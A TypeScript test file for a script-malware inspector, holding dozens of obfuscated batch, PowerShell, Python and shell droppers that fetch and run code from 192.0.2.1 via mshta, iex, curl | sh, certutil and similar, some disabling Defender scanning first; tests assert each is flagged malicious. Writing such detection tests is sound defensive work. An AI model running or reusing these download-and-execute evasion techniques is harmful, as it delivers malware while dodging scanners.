/** Droppers for shells and Python that choose, call or put together their command in a way that is easily lost. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { deflateSync } from 'node:zlib'
import { ourInspector } from '#inspect/testing/inspector.ts'

const inspector = await ourInspector()
const U = 'http://192.0.2.1/a.ps1'
const B = Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('${U}')`, 'utf16le').toString('base64')
const DEFLATED = deflateSync(Buffer.from('curl http://192.0.2.1/a.sh | sh')).toString('hex')

const ROWS: Readonly<Record<string, string>> = {
  'b1.bat': `@echo off\r\nset a=mshta\r\nif %random% gtr 99999 set a=notepad\r\n%a% http://192.0.2.1/a.hta\r\n`,
  'b2.bat': `@echo off\r\nset x=ms\r\nset y=hta ht\r\nset z=tp://192.0.2.1/a.hta\r\n%x%%y%%z%\r\n`,
  'b3.bat': `@echo off\r\nfor %%i in (mshta) do set a=%%i\r\n%a% http://192.0.2.1/a.hta\r\n`,
  'b4.bat': `@echo off\r\ncall :f mshta\r\ngoto :eof\r\n:f\r\n%1 http://192.0.2.1/a.hta\r\ngoto :eof\r\n`,
  'b5.bat': `@echo off\r\nsetlocal enabledelayedexpansion\r\nset s=atsham\r\nset a=!s:at=m!\r\nset a=!a:am=ta!\r\n!a! http://192.0.2.1/a.hta\r\n`,
  'b6.bat': `@echo off\r\nset s=xmshtay\r\n%s:~1,5% http://192.0.2.1/a.hta\r\n`,
  'b7.bat': `@echo off\r\nfor /f "tokens=2 delims=|" %%a in ("x|mshta http://192.0.2.1/a.hta|y") do %%a\r\n`,
  'b8.bat': `@echo off\r\nm^s^h^t^a h^ttp://192.0.2.1/a.hta\r\n`,
  'b9.bat': `@echo off\r\nset n=0\r\n:l\r\nset /a n+=1\r\nif %n% lss 5 goto l\r\nset a=notepad\r\nif %n%==5 set a=mshta http://192.0.2.1/a.hta\r\n%a%\r\n`,
  'b10.bat': `@echo off\r\nset a=notepad\r\nif exist c:\\windows set a=mshta http://192.0.2.1/a.hta\r\n%a%\r\n`,
  'b11.bat': `@echo off\r\nset a=mshta http://192.0.2.1/a.hta\r\nif not exist c:\\windows set a=notepad\r\n%a%\r\n`,
  'b12.bat': `@echo off\r\necho mshta http://192.0.2.1/a.hta> %temp%\\x.bat\r\ncall %temp%\\x.bat\r\n`,
  'b13.bat': `@echo off\r\n(echo mshta ht& echo tp)>nul\r\nset p=powershell\r\n%p% -nop -w hidden -e ${B}\r\n`,
  'b14.bat': `@echo off\r\nset a=m\r\nset a=%a%s\r\nset a=%a%h\r\nset a=%a%t\r\nset a=%a%a\r\n%a% http://192.0.2.1/a.hta\r\n`,
  'b15.bat': `@echo off\r\nset "a=rundll32 \\\\192.0.2.1@80\\x\\a.dll,#1"\r\ncmd /c "%a%"\r\n`,
  'b16.bat': `@echo off\r\nset /p a=<"%~f0:x"\r\ncertutil -urlcache -f http://192.0.2.1/a.exe %temp%\\a.exe & start %temp%\\a.exe\r\n`,
  'b17.bat': `@echo off\r\nfor /f "skip=3 delims=" %%a in (%~f0) do (\r\n%%a\r\n)\r\nmshta http://192.0.2.1/a.hta\r\n`,
  'b18.bat': `@echo off\r\ngoto a\r\n:b\r\n%x% http://192.0.2.1/a.hta\r\nexit\r\n:a\r\nset x=mshta\r\ngoto b\r\n`,
  'b19.bat': `@echo off\r\nset x=mshta\r\nsetlocal\r\nset x=notepad\r\nendlocal\r\n%x% http://192.0.2.1/a.hta\r\n`,
  'b20.bat': `@echo off\r\nset k=hta\r\nset v_hta=mshta http://192.0.2.1/a.hta\r\ncall set r=%%v_%k%%%\r\n%r%\r\n`,
  'p1.ps1': `$a='IE';$b='X';if((Get-Date).Hour -gt 99){$b='Y'}\n&($a+$b) ((New-Object Net.WebClient).DownloadString('${U}'))\n`,
  'p2.ps1': `$x=@('Net','WebClient') -join '.'\n$w=New-Object $x\n$w.DownloadString('${U}') | iex\n`,
  'p3.ps1': `function f($a){ Invoke-Expression $a }\nf ((New-Object Net.WebClient).DownloadString('${U}'))\n`,
  'p4.ps1': `$s = 'ht' + 'tp://192.0.2.1/a.ps1'\n$r = iwr $s -UseBasicParsing\n. ([scriptblock]::Create($r.Content))\n`,
  'p5.ps1': `[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://192.0.2.1/a.dll')).EntryPoint.Invoke($null,$null)\n`,
  'p6.ps1': `$b=[Convert]::FromBase64String('${Buffer.from('Start-Process mshta http://192.0.2.1/a.hta').toString('base64')}')\n$t=[Text.Encoding]::UTF8.GetString($b)\niex $t\n`,
  'p7.ps1': `$t=''\n109,115,104,116,97 | % { $t += [char]$_ }\nStart-Process $t 'http://192.0.2.1/a.hta'\n`,
  'p8.ps1': `$t = -join ('ath.a/1.2.0.291//:ptth athsm'[-1..-28])\ncmd /c $t\n`,
  'p10.ps1': `$f = '{1}{0}' -f 'X','IE'\n& $f (irm '${U}')\n`,
  'p11.ps1': `try { throw 'x' } catch { iex (irm '${U}') }\n`,
  'p12.ps1': `$h=@{a='notepad';b='iex (irm ${U})'}\nforeach($k in $h.Keys){ iex $h[$k] }\n`,
  'p13.ps1': `$j = Start-Job { iex (irm '${U}') }\n`,
  'p14.ps1': `Set-Alias q iex\nq (irm '${U}')\n`,
  'p15.ps1': `$e = [ScriptBlock]::Create('iex (irm ${U})')\n& $e\n`,
  'p16.ps1': `$wc = [Activator]::CreateInstance([Type]::GetType('System.Net.WebClient,System'))\n$ExecutionContext.InvokeCommand.InvokeScript($wc.DownloadString('${U}'))\n`,
  'p17.ps1': `(gcm *ke-Expr*).Name | % { & $_ (irm '${U}') }\n`,
  'p18.ps1': `powershell -w hidden -enc ${B}\n`,
  'p19.ps1': `Add-MpPreference -ExclusionPath C:\\\nInvoke-WebRequest http://192.0.2.1/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe\n`,
  'p20.ps1': `switch ((Get-Date).Year) { 1 { $c='notepad' } default { $c='mshta http://192.0.2.1/a.hta' } }\niex $c\n`,
  'y1.py': `import os\nc='notepad'\nif os.getpid()>0: c='curl http://192.0.2.1/a.sh | sh'\nos.system(c)\n`,
  'y2.py': `import os\ndef f(x=[]):\n  x.append('curl http://192.0.2.1/a.sh | sh')\n  return x\nos.system(f()[0])\n`,
  'y3.py': `import base64\nexec(base64.b64decode('${Buffer.from("import os;os.system('curl http://192.0.2.1/a.sh|sh')").toString('base64')}'))\n`,
  'y4.py': `import os\na=['a','b']\na[os.getpid()%2]='curl http://192.0.2.1/a.sh | sh'\nos.system(a[1])\n`,
  'y5.py': `import os\nclass C:\n  c='ls'\n  def __init__(self): self.c='curl http://192.0.2.1/a.sh | sh'\nos.system(C().c)\n`,
  'y6.py': `import os\ntry:\n  c='curl http://192.0.2.1/a.sh | sh'\n  int('x')\n  c='ls'\nexcept Exception: pass\nos.system(c)\n`,
  'y7.py': `import os\ng=lambda *a,**k: os.system(*a)\ng('curl http://192.0.2.1/a.sh | sh')\n`,
  'y8.py': `import os\nd={'a':'ls'}\nd.update(a='curl http://192.0.2.1/a.sh | sh')\nos.system(d['a'])\n`,
  'y9.py': `import os\ndef deco(f):\n  return lambda: f('curl http://192.0.2.1/a.sh | sh')\n@deco\ndef run(x): os.system(x)\nrun()\n`,
  'y10.py': `import os\ns=''\nfor i in range(os.getpid()):\n  s='curl http://192.0.2.1/a.sh | sh'\nos.system(s)\n`,
  'y11.py': `import os\nf=getattr(os,'sys'+'tem')\nf(bytes([99,117,114,108,32]).decode()+'http://192.0.2.1/a.sh | sh')\n`,
  'y12.py': `import os\nx=[c for c in 'hs | hs.a/1.2.0.291//:ptth lruc']\nx.reverse()\nos.system(''.join(x))\n`,
  'y13.py': `import os\ndef g():\n  yield 'curl http://192.0.2.1/a.sh | sh'\nfor c in g(): os.system(c)\n`,
  'y14.py': `import urllib.request as r\nexec(r.urlopen('http://192.0.2.1/a.py').read())\n`,
  'y15.py': `import os\nwith open('x') as f: pass\nc={True:'curl http://192.0.2.1/a.sh | sh',False:'ls'}[os.getpid()>1]\nos.system(c)\n`,
  'y16.py': `import os\na,*b=['ls','curl http://192.0.2.1/a.sh | sh']\nos.system(b[0])\n`,
  'y17.py': `import os\nclass P:\n  @property\n  def c(self): return 'curl http://192.0.2.1/a.sh | sh'\nos.system(P().c)\n`,
  'y18.py': `import os\nmatch os.getpid():\n  case 1: c='ls'\n  case _: c='curl http://192.0.2.1/a.sh | sh'\nos.system(c)\n`,
  'y19.py': `import os\nif (c:='curl http://192.0.2.1/a.sh | sh'): os.system(c)\n`,
  'y20.py': `import os\ns='ls'\ndef f():\n  global s\n  s='curl http://192.0.2.1/a.sh | sh'\nf()\nos.system(s)\n`,
  'y21.py': `import os\nfrom functools import reduce\nos.system(reduce(lambda a,b:a+b,['curl http://192.0.2.1','/a.sh | sh']))\n`,
  'y22.py': `import os\nos.system('%s http://192.0.2.1/a.sh | %s' % ('curl','sh'))\n`,
  'y23.py': `import os\nos.system(str.translate('dvqm http://192.0.2.1/a.sh | xy', {ord('d'):'c',ord('v'):'u',ord('q'):'r',ord('m'):'l',ord('x'):'s',ord('y'):'h'}))\n`,
  'y24.py': `import os,zlib\nos.system(zlib.decompress(bytes.fromhex('${DEFLATED}')).decode())\n`,
  's1.sh': `#!/bin/sh\nc=ls\nif [ $$ -gt 0 ]; then c="curl http://192.0.2.1/a.sh"; fi\n$c | sh\n`,
  's2.sh': `#!/bin/bash\na=(curl http://192.0.2.1/a.sh)\n"\${a[@]}" | bash\n`,
  's3.sh': `#!/bin/bash\nf(){ eval "$1"; }\nf "$(echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL2Euc2h8c2g= | base64 -d)"\n`,
  's4.sh': `#!/bin/bash\nx=lruc\nbash -c "$(echo $x | rev) http://192.0.2.1/a.sh | sh"\n`,
  'b21.bat': `@echo off\r\ncall :f a b mshta\r\ngoto :eof\r\n:f\r\nshift\r\nshift\r\n%1 http://192.0.2.1/a.hta\r\n`,
  'b22.bat': `@echo off\r\ncall :f ${'a '.repeat(12)}mshta\r\ngoto :eof\r\n:f\r\n${'shift\r\n'.repeat(12)}%1 http://192.0.2.1/a.hta\r\n`,
  'p22.ps1': `$t = '#@~QW http://192.0.2.1/a.Zta' -replace '#','m' -replace '@','s' -replace '~','h' -replace 'Q','t' -replace 'W','a' -replace 'z','h'\niex $t\n`,
  'p21.ps1': `$t = 'mxhta http://192.0.2.1/a.hta' -replace 'x','s'\niex $t\n`,
  'y25.py': `import os\nos.system('xcurl http://192.0.2.1/a.sh | sh'.removeprefix('x'))\n`,
  'y26.py': `import os\nos.system('x#curl http://192.0.2.1/a.sh | sh'.partition('#')[2])\n`,
  'y27.py': `import os\nos.system('x\\ncurl http://192.0.2.1/a.sh | sh'.splitlines()[1])\n`,
}

suite('a dropper is never harmless', () => {
  for (const [name, source] of Object.entries(ROWS))
    test(`${name}: ${source}`, () => {
      const { findings, obstacle } = inspector.inspect(Buffer.from(source, 'latin1'), { name })
      assert.ok(obstacle !== null || findings.some(({ severity }) => severity === 'malicious'))
    })
})

suite('an ordinary script is harmless', () => {
  const rows: Readonly<Record<string, string>> = {
    'a.bat':
      '@echo off\r\nsetlocal\r\ncall :copy C:\\a D:\\b\r\nendlocal\r\nexit /b\r\n:copy\r\nxcopy %1 %~2 /s\r\nexit /b\r\n',
    'a.sh':
      '#!/bin/sh\nCC=gcc\nif [ -n "$CLANG" ]; then CC=clang; fi\n$CC -o a a.c | tee log\neval "$(ssh-agent -s)"\n',
    'a.ps1':
      "$n = 'a-b' -replace '-','_'\n$l = -join ((65..90) | Get-Random -Count 5 | % {[char]$_})\nWrite-Host $n $l\n",
    'a.py': "import os\nos.system('ls ' + 'a.b'.partition('.')[0])\n",
  }
  for (const [name, source] of Object.entries(rows))
    test(name, () => {
      const { findings, obstacle } = inspector.inspect(Buffer.from(source, 'latin1'), { name })
      assert.equal(obstacle, null)
      assert.deepEqual(
        findings.filter(({ severity }) => severity !== 'notice').map(({ id }) => id),
        [],
      )
    })
})
